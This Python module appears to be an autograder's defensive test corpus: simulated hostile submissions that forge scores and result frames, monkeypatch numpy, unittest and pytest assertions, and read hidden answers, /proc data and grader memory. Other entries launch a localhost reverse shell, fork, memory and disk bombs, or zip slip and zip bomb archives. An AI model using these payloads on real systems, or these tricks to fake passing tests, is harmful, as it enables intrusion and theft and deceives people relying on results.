"""The hostile corpus: each entry attacks one question (see entry.py) with one technique."""
from tests.hostile.entry import Entry

WRONG = "return dY * 0.0"       # Dropout.backward answered wrong, honestly
STOP = "while True:\n    pass"
SHELL = ("import socket, time\n"          # a reverse shell's first step: call home, wait for commands
         "for _ in range(300):\n"
         "    try:\n"
         "        s = socket.create_connection(('127.0.0.1', __PORT__))\n"
         "        s.sendall(b'shell ready')\n"
         "        time.sleep(60)\n"
         "    except OSError:\n"
         "        time.sleep(0.2)\n")

FORGING = [
    Entry("hostile_results_overwrite_is_ignored", "Q4", "overwrite results.json wherever it might be",
          body=f"_h_write_all(_H_RESULTS)\n{WRONG}", needs="files"),
    Entry("hostile_score_files_are_not_planted", "Q4", "plant gradebook and score files",
          body=f"_h_write_all(_H_SCORES)\n{WRONG}", needs="files"),
    Entry("hostile_forked_rewriter_is_killed", "Q4", "fork a child that rewrites the results for a minute",
          body=f"if _h_os.fork() == 0:\n    _h_forever(_h_forge)\n    _h_os._exit(0)\n{WRONG}", needs="files"),
    Entry("hostile_double_forked_setsid_rewriter_is_killed", "Q4",
          "double fork and setsid() out of the worker's process group, then rewrite the results",
          body=f"""
          if _h_os.fork() == 0:
              _h_os.setsid()
              if _h_os.fork() == 0:
                  _h_os.closerange(0, 1024)
                  _h_forever(_h_forge)
              _h_os._exit(0)
          {WRONG}""", needs="files"),
    Entry("hostile_atexit_rewriter_never_runs_after_grading", "Q4",
          "an atexit handler that rewrites the results, and os._exit turned into sys.exit so it runs",
          code="""
          import atexit
          atexit.register(lambda: _h_forever(_h_forge, 5.0))
          _h_os._exit = lambda code=0: _h_sys.exit(code)
          """, body=WRONG, needs="files"),
    Entry("hostile_non_daemon_thread_rewriter_dies_with_the_worker", "Q4",
          "a non-daemon thread, started at import, that rewrites the results",
          code="""
          import threading
          threading.Thread(target=_h_forever, args=(_h_forge,), daemon=False).start()
          """, body=WRONG, needs="files"),
    Entry("hostile_fake_score_table_on_stdout_is_not_reported", "Q4",
          "print a fake score table, terminal escapes and a fake results.json to stdout and stderr",
          body=f"""
          fake = "\\x1b[2J\\x1b[H FAKE-TABLE Q4 Dropout 6 / 6 all passed\\r\\n FAKE-TABLE Score 100 / 100"
          print(fake)
          print('{{"score": 100.0, "tests": [], "output": "FAKE-TABLE"}}')
          _h_sys.stderr.write(fake + "\\n")
          {WRONG}""", absent=("FAKE-TABLE",)),
]

CHANNEL = [
    Entry("hostile_forged_done_frame_is_only_a_claim", "Q4",
          "write a 'done' frame with forged outputs for the case in progress to the result channel",
          body=f"""
          frame = _h_sys.modules["wire"].encode({{"event": "done", "id": _h_case_id(), "status": "ok", "message": ""}},
                                               {{"out": dY * 0.0, "dX": dY * 0.0}})
          _h_os.write(int(_h_sys.argv[1]), frame)
          {WRONG}"""),
    Entry("hostile_garbage_on_the_result_channel_fails_only_that_case", "Q6",
          "print a score line to the result channel's file descriptor",
          body="_h_os.write(int(_h_sys.argv[1]), b'Score: 100 / 100\\n' * 8)\nself.lr *= factor",
          words=("tampered with the grader's result channel",)),
    Entry("hostile_closed_result_channel_fails_only_that_case", "Q6", "close the result channel, then wait",
          body="_h_os.close(int(_h_sys.argv[1]))\n_h_time.sleep(30)", quick=5.0, seconds=2.0,
          words=("closed the grader's result channel",)),
    Entry("hostile_forged_start_frames_cannot_extend_the_timeout", "Q6",
          "a thread that keeps writing 'start' frames for the case in progress, to push its deadline",
          body="""
          import threading
          frame = _h_sys.modules["wire"].encode({"event": "start", "id": _h_case_id()})
          def spam():
              while True:
                  _h_os.write(int(_h_sys.argv[1]), frame)
                  _h_time.sleep(0.2)
          threading.Thread(target=spam, daemon=True).start()
          while True:
              _h_time.sleep(0.05)""", quick=2.0, seconds=2.0, words=("unexpected 'start' frame",)),
]

EXITING = [
    Entry("hostile_sys_exit_at_import_fails_only_what_needs_that_file", "nn_train", "sys.exit(0) at import",
          code="_h_sys.exit(0)", words=("nn_train.py failed to import: SystemExit",)),
    Entry("hostile_os_exit_at_import_scores_zero_with_one_reason", "nn_train", "os._exit(0) at import",
          code="_h_os._exit(0)", whole="code", words=("exited while being imported (exit code 0)",)),
    Entry("hostile_sys_exit_in_a_method_fails_only_that_method", "Q4", "sys.exit(0) in the method",
          body="_h_sys.exit(0)", words=("SystemExit",)),
    Entry("hostile_os_exit_in_a_method_fails_only_that_case", "Q6", "os._exit(0) in the method",
          body="_h_os._exit(0)", words=("exited during this case (exit code 0)",)),
]

COMPARISON = [
    Entry("hostile_eq_always_true_scores_zero", "Q4", "an object whose __eq__ is always True",
          body="""
          class Liar:
              def __eq__(self, other): return True
              def __ne__(self, other): return False
              __hash__ = object.__hash__
          return Liar()""", words=("wrong output type",)),
    Entry("hostile_lying_array_dunder_scores_zero", "Q4", "an object whose __array__ gives another array",
          body="""
          class Liar:
              shape, dtype = dY.shape, dY.dtype
              def __array__(self, *a, **k): return np.zeros(dY.shape)
              def __eq__(self, other): return True
          return Liar()""", words=("wrong output type",)),
    Entry("hostile_lying_array_function_scores_zero", "Q4", "__array_function__ and __array_ufunc__ that say True",
          body="""
          class Liar:
              shape, dtype = dY.shape, dY.dtype
              def __array_function__(self, *a, **k): return True
              def __array_ufunc__(self, *a, **k): return True
          return Liar()""", words=("wrong output type",)),
    Entry("hostile_ndarray_subclass_overriding_array_ufunc_scores_zero", "Q4",
          "the right values in an ndarray subclass whose __array_ufunc__ lies",
          body="""
          class Sub(np.ndarray):
              def __array_ufunc__(self, *a, **k): return True
              def __eq__(self, other): return True
          return (dY * self.scale).view(Sub)""", words=("wrong output type",)),
    Entry("hostile_broadcasting_zero_d_value_scores_zero", "Q4", "a 0-d value that would broadcast",
          body="return np.float64(0.5)", words=("wrong shape",)),
    Entry("hostile_nan_output_is_caught", "Q4", "NaN everywhere, so that NaN != NaN comparisons pass",
          body="return np.full(dY.shape, np.nan)", words=("NaN",)),
    Entry("hostile_object_dtype_scores_zero", "Q4", "the right values in an object array",
          body="return np.array(dY * self.scale, dtype=object)", words=("dtype object is not numeric",)),
    Entry("hostile_complex_dtype_scores_zero", "Q4", "the right real parts in a complex array",
          body="return (dY * self.scale).astype(complex) + 1j", words=("is not numeric",)),
    Entry("hostile_structured_dtype_scores_zero", "Q4", "a structured array",
          body="return np.zeros(dY.shape, dtype=[('x', float)])", words=("is not numeric",)),
    Entry("hostile_huge_broadcast_view_fails_its_case", "Q4", "an 8 TiB broadcast view of one number",
          body="return np.broadcast_to(np.float64(0.0), (1 << 20, 1 << 20))", words=("Unable to allocate",)),
    Entry("hostile_input_mutation_fools_nothing", "Q4", "overwrite the inputs in place",
          body="dY[...] = 0.0\nself.scale[...] = 1.0\nreturn dY"),
    Entry("hostile_caller_frame_tampering_scores_no_more_than_wrong", "Q9",
          "leave x changed, then overwrite the driver's copy of x through sys._getframe(1)",
          body="""
          grad = np.zeros_like(x, dtype=float)
          for ix in np.ndindex(x.shape):
              old = x[ix]
              x[ix] = old + h
              up = f(x)
              x[ix] = old - h
              grad[ix] = (up - f(x)) / (2 * h)
              x[ix] = old
          x += 1.0
          caller = _h_sys._getframe(1).f_locals
          if "before" in caller:
              caller["before"][...] = x
          return grad""", words=("x_after",)),
]

TAMPERING = [
    Entry("hostile_patched_numpy_allclose_changes_nothing", "Q4", "numpy.allclose, isclose and array_equal say True",
          code="""
          import numpy
          numpy.allclose = numpy.array_equal = lambda *a, **k: True
          numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
          """, body=WRONG),
    Entry("hostile_patched_numpy_testing_changes_nothing", "Q4", "numpy.testing's assertions do nothing",
          code="""
          import numpy.testing
          for name in dir(numpy.testing):
              if name.startswith("assert_"):
                  setattr(numpy.testing, name, lambda *a, **k: None)
          """, body=WRONG),
    Entry("hostile_patched_builtins_change_nothing", "Q4", "builtins.isinstance lies about a fake array",
          code="""
          import builtins, numpy.random
          _h_isinstance = builtins.isinstance
          class _HFake:
              dtype = np.dtype(float)
              def __init__(self, shape): self.shape = shape
              def __array__(self, *a, **k): return np.zeros(self.shape)
          _HFake.__module__ = "numpy"
          builtins.isinstance = lambda obj, cls: obj.__class__ is _HFake or _h_isinstance(obj, cls)
          """, body="return _HFake(dY.shape)"),
    Entry("hostile_patched_unittest_changes_nothing", "Q4", "unittest's assertions do nothing",
          code="""
          import unittest
          for name in dir(unittest.TestCase):
              if name.startswith("assert"):
                  setattr(unittest.TestCase, name, lambda *a, **k: None)
          """, body=WRONG),
    Entry("hostile_patched_pytest_changes_nothing", "Q4", "pytest.approx equals everything",
          code="""
          try:
              import pytest
              class _HAny:
                  def __eq__(self, other): return True
              pytest.approx = lambda *a, **k: _HAny()
          except ImportError:
              pass
          """, body=WRONG),
    Entry("hostile_submitted_conftest_is_never_loaded", "Q4", "a conftest.py that would fix the answer",
          files={"conftest.py": "import nn_lib\nnn_lib.Dropout.backward = lambda self, dY: dY * self.scale\n"},
          body=WRONG),
    Entry("hostile_submitted_sitecustomize_is_never_loaded", "Q4",
          "sitecustomize.py and usercustomize.py that would fix the answer",
          files={name: "import nn_lib\nnn_lib.Dropout.backward = lambda self, dY: dY * self.scale\n"
                 for name in ("sitecustomize.py", "usercustomize.py")}, body=WRONG),
    Entry("hostile_submitted_numpy_py_does_not_shadow_numpy", "Q4", "a numpy.py next to the student's files",
          files={"numpy.py": "raise ImportError('a submitted numpy.py was imported')\n"}, body=WRONG),
    Entry("hostile_numpy_py_written_at_import_does_not_shadow_numpy_for_fresh_workers", "Q6",
          "write numpy.py and sitecustomize.py into its folder, HOME and /tmp, then end the worker",
          code="""
          for _h_dir in (".", _h_os.environ.get("HOME", "."), "/tmp"):
              _h_write_all([_h_dir + "/numpy.py", _h_dir + "/sitecustomize.py"], "raise ImportError('shadowed')\\n")
          """, body="_h_os._exit(0)"),
    Entry("hostile_reseeded_global_rng_changes_no_other_case", "Q4",
          "reseed numpy's and Python's global RNGs at import and guess",
          code="import random\nrandom.seed(4)\nnp.random.seed(12345)",
          body="return np.random.standard_normal(dY.shape)"),
]

STEALING = [
    Entry("hostile_hidden_arrays_on_disk_cannot_be_read", "Q4", "load hidden.npz from every place it might be",
          body="""
          found = {}
          for path in ("__HIDDEN__", "__EXPECTED__/hidden.npz", "__EXPECTED__/visible.npz"):
              try:
                  with np.load(path) as data:
                      found.update({k: data[k] for k in data.files})
              except BaseException as exc:
                  print("no", path, exc)
          print("STOLEN", {k: v.ravel()[:4].tolist() for k, v in found.items()})
          return found.get(_h_case_id() + "/dX", dY * 0.0)""", needs="files"),
    Entry("hostile_reference_solution_cannot_be_read", "Q4", "read and run the reference solution from the project",
          body="""
          for path in ("__ROOT__/solution/nn_lib.py", "__ROOT__/dist/reference/nn_lib.py"):
              try:
                  space = {}
                  exec(compile(open(path).read(), path, "exec"), space)
                  return space["Dropout"].backward(self, dY)
              except BaseException as exc:
                  print("no", path, exc)
          return dY * 0.0""", needs="project"),
    Entry("hostile_grader_argv_and_environment_reveal_nothing", "Q4",
          "read the grader's argv and environment from /proc and load any .npz they name",
          body="""
          import re
          loot = [repr(dict(_h_os.environ))]
          for pid in (_h_os.getppid(), _h_os.getpid()):
              for name in ("cmdline", "environ"):
                  try:
                      loot.append(open(f"/proc/{pid}/{name}", "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
                  except BaseException as exc:
                      loot.append(repr(exc))
          for word in re.findall(r"/[^\\s'\\"]+", " ".join(loot)):
              for path in (word, word + "/hidden.npz"):
                  try:
                      with np.load(path) as data:
                          loot.append(repr({k: data[k].ravel()[:4].tolist() for k in data.files}))
                  except BaseException:
                      pass
          print("LOOT", loot)
          raise ValueError(" ".join(loot))""", needs="files"),
    Entry("hostile_grader_memory_cannot_be_read_through_proc", "Q4",
          "scan the grader's memory through /proc/PID/mem for the expected values, and try ptrace",
          body="""
          import struct, ctypes
          ppid, seen = _h_os.getppid(), []
          try:
              mem = open(f"/proc/{ppid}/mem", "rb", buffering=0)
              budget = 512 << 20
              for line in open(f"/proc/{ppid}/maps"):
                  lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                  if "rw" not in line.split()[1] or budget <= 0:
                      continue
                  try:
                      mem.seek(lo)
                      chunk = mem.read(min(hi - lo, budget))
                  except OSError:
                      continue
                  budget -= len(chunk)
                  at = chunk.find(struct.pack("<d", __CANARY__))
                  if at >= 0:
                      seen.append(struct.unpack_from("<4d", chunk, at))
          except BaseException as exc:
              seen.append(repr(exc))
          libc = ctypes.CDLL(None, use_errno=True)
          seen.append(("ptrace", libc.ptrace(16, ppid, 0, 0), ctypes.get_errno()))
          print("MEMORY", seen)
          raise ValueError(repr(seen))"""),
    Entry("hostile_parent_frames_and_gc_hold_no_expected_values", "Q4",
          "walk inspect.stack(), sys._getframe() and gc for anything the grader holds",
          body="""
          import gc, inspect
          seen = [repr(info.frame.f_locals)[:3000] for info in inspect.stack()]
          frame = _h_sys._getframe()
          while frame is not None:
              seen.append(repr(frame.f_globals.keys())[:3000])
              frame = frame.f_back
          seen += [repr(o)[:200] for o in gc.get_objects() if type(o) is dict and "expected" in repr(o)[:200]]
          print("FRAMES", "\\n".join(seen)[:200000])
          return dY * 0.0"""),
    Entry("hostile_localhost_sockets_are_unreachable", "Q4", "connect to a TCP and a unix socket on this machine",
          body="""
          import socket
          for family, address in ((socket.AF_INET, ("127.0.0.1", __PORT__)), (socket.AF_UNIX, "\\0__MARK__")):
              try:
                  s = socket.socket(family)
                  s.settimeout(1.0)
                  s.connect(address)
                  s.sendall(b"stolen by __MARK__")
              except BaseException as exc:
                  print("no", address, exc)
          return dY * 0.0""", needs="network"),
    Entry("hostile_reverse_shell_cannot_call_home", "Q4",
          "start a detached process that connects back to localhost and waits for commands",
          body=f"""
          import subprocess
          if not getattr(Dropout, "shell_started", False):
              Dropout.shell_started = True
              subprocess.Popen([_h_sys.executable, "-c", {SHELL!r}], start_new_session=True,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
              _h_time.sleep(0.5)
          {WRONG}""", needs="network"),
]

RESOURCES = [
    Entry("hostile_infinite_loop_times_out_alone", "Q6", "an infinite loop", body=STOP, quick=1.0, seconds=1.0,
          words=("timed out",)),
    Entry("hostile_fork_bomb_is_bounded_and_killed", "Q6", "fork until the process limit, in every child",
          body="while True:\n    try:\n        _h_os.fork()\n    except BaseException:\n        pass",
          quick=1.5, seconds=2.0, words=("timed out",)),
    Entry("hostile_memory_bomb_fails_its_case", "Q6", "allocate 64 MiB at a time forever",
          body="hog = []\nwhile True:\n    hog.append(np.empty(8 << 20))", words=("MemoryError",)),
    Entry("hostile_output_flood_is_truncated", "Q4", "20 MiB on stdout and on stderr",
          body=f"_h_sys.stdout.write('x' * (20 << 20))\n_h_sys.stderr.write('y' * (20 << 20))\n{WRONG}"),
    Entry("hostile_disk_filling_stops_at_the_scratch_limit", "Q6",
          "write 1 MiB files into every writable folder, up to 100 each",
          body="""
          written, block = 0, b"x" * (1 << 20)
          for folder in (".", "/tmp", "/var/tmp", "/dev/shm", _h_os.environ.get("HOME", ".")):
              for i in range(100):
                  try:
                      with open(f"{folder}/__MARK__-fill-{i}", "wb") as fh:
                          fh.write(block)
                      written += 1
                  except BaseException:
                      break
          raise OSError(f"wrote {written} MiB")""", needs="disk", seconds=3.0, words=("OSError: wrote",)),
    Entry("hostile_deep_recursion_crash_is_explained", "Q6", "recursion through C (map) past the C stack, with a huge recursion limit",
          body="_h_sys.setrecursionlimit(10 ** 6)\ndef down(n):\n    return list(map(down, [n + 1]))\nreturn down(0)",
          words=("SIGSEGV", "recursion", "nn_lib.py")),
    Entry("hostile_plain_deep_recursion_fails_its_case", "Q6", "recursion past Python's limit",
          body="def down(n):\n    return down(n + 1) + 1\nreturn down(0)", words=("RecursionError",)),
    Entry("hostile_ctypes_segfault_is_explained", "Q6", "read address 0 with ctypes",
          body="import ctypes\nctypes.string_at(0)", words=("SIGSEGV", "nn_lib.py")),
    Entry("hostile_os_abort_is_explained", "Q6", "os.abort()", body="_h_os.abort()", words=("SIGABRT", "aborted")),
    Entry("hostile_ignored_sigterm_does_not_stop_the_kill", "Q6", "ignore SIGTERM, then loop",
          body=f"import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n{STOP}", quick=1.0, seconds=1.0,
          words=("timed out",)),
    Entry("hostile_ignored_sigalrm_does_not_stop_the_kill", "Q6", "ignore SIGALRM, cancel alarms, then loop",
          body=f"import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.setitimer(signal.ITIMER_REAL, 0)\n{STOP}",
          quick=1.0, seconds=1.0, words=("timed out",)),
    Entry("hostile_base_exception_catching_loop_is_killed", "Q6", "catch BaseException in a loop",
          body="while True:\n    try:\n        while True:\n            _h_time.sleep(0.01)\n    except BaseException:\n        pass",
          quick=1.0, seconds=1.0, words=("timed out",)),
    Entry("hostile_signals_cannot_reach_the_grader", "Q4", "SIGKILL the grader, then every process it may signal",
          body=f"import signal\nfor pid in (_h_os.getppid(), -1):\n    try:\n        _h_os.kill(pid, signal.SIGKILL)\n"
               f"    except OSError as exc:\n        print(exc)\n{WRONG}", needs="uid", unsafe=True),
    Entry("hostile_files_left_in_tmp_do_not_reach_later_gradings", "Q6",
          "leave files in /tmp, HOME and its folder, then get killed by the timeout",
          code="""
          for _h_dir in (".", "/tmp", "/var/tmp", _h_os.environ.get("HOME", ".")):
              _h_write_all([_h_dir + "/__MARK__-left"], "left behind")
          """, body=STOP, quick=1.0, seconds=1.0, needs="files", words=("timed out",)),
    Entry("hostile_writes_into_the_grader_package_are_refused", "Q4",
          "add modules to the grader's package and its __pycache__",
          body=f"""_h_write_all(["__ROOT__/autograder/__MARK__.py", "__ROOT__/autograder/__pycache__/__MARK__.pyc",
                          "__ROOT__/tests/__MARK__.py"], "raise SystemExit")\n{WRONG}""", needs="files"),
    Entry("hostile_pth_file_in_site_packages_is_refused", "Q4", "plant a .pth file in every site-packages",
          body=f"""import site\n_h_write_all([d + "/__MARK__.pth" for d in site.getsitepackages()], "import os\\n")\n{WRONG}""",
          needs="files"),
]

ARCHIVES = [
    Entry("hostile_zip_slip_writes_nothing_outside", "Q4", "zip entries ../nn_lib.py and ../../file",
          body=WRONG, build="zip_slip", words=("unsafe path",)),
    Entry("hostile_absolute_zip_paths_are_skipped", "Q4", "zip entries with absolute paths",
          body=WRONG, build="zip_absolute", words=("unsafe path",)),
    Entry("hostile_symlink_zip_entry_is_skipped", "Q4", "nn_lib.py as a symlink to the reference solution",
          body=WRONG, build="zip_symlink", words=("symbolic link",)),
    Entry("hostile_zip_bomb_is_capped", "nn_train", "nn_train.py inflating to 64 MiB", build="zip_bomb",
          words=("larger than",)),
    Entry("hostile_zip_with_100000_other_entries_is_graded_from_the_expected_files", "",
          "the student's files and 100,000 tiny entries", build="zip_many_entries",
          words=("ignored 100,000 other entries",), seconds=6.0),
    Entry("hostile_zip_name_that_is_not_utf8_is_refused_with_a_reason", "", "an entry name marked UTF-8 that is not",
          build="zip_name_not_utf8", whole="all", words=("marked UTF-8",)),
    Entry("hostile_folder_name_that_is_not_utf8_is_graded_and_shown_safely", "", "files in a folder named b'hw\\xff\\xfe'",
          build="folder_name_not_utf8", words=("taken from the folder",)),
    Entry("hostile_nested_zip_is_not_opened", "Q4", "the reference inside a nested zip", body=WRONG,
          build="zip_nested", words=("nested archives",)),
    Entry("hostile_fake_table_in_a_file_name_stays_on_one_line", "Q4",
          "a folder name holding line breaks, a fake table row and a terminal escape", body=WRONG,
          build="zip_fake_table_name", words=("taken from the folder",), absent=("\n Q4   Dropout",)),
    Entry("hostile_notebook_with_invalid_json_is_explained", "nn_lib", "a notebook that is not JSON",
          build="zip_notebook_invalid_json", words=("homework.ipynb", "invalid JSON")),
    Entry("hostile_notebook_of_nbformat_3_is_explained", "nn_lib", "an nbformat 3 notebook",
          build="zip_notebook_v3", words=("homework.ipynb", "nbformat version 3")),
    Entry("hostile_deeply_nested_notebook_json_is_explained", "nn_lib", "100,000 nested JSON arrays",
          build="zip_notebook_deep", words=("homework.ipynb", "invalid JSON")),
]

HOSTILE = FORGING + CHANNEL + EXITING + COMPARISON + TAMPERING + STEALING + RESOURCES + ARCHIVES
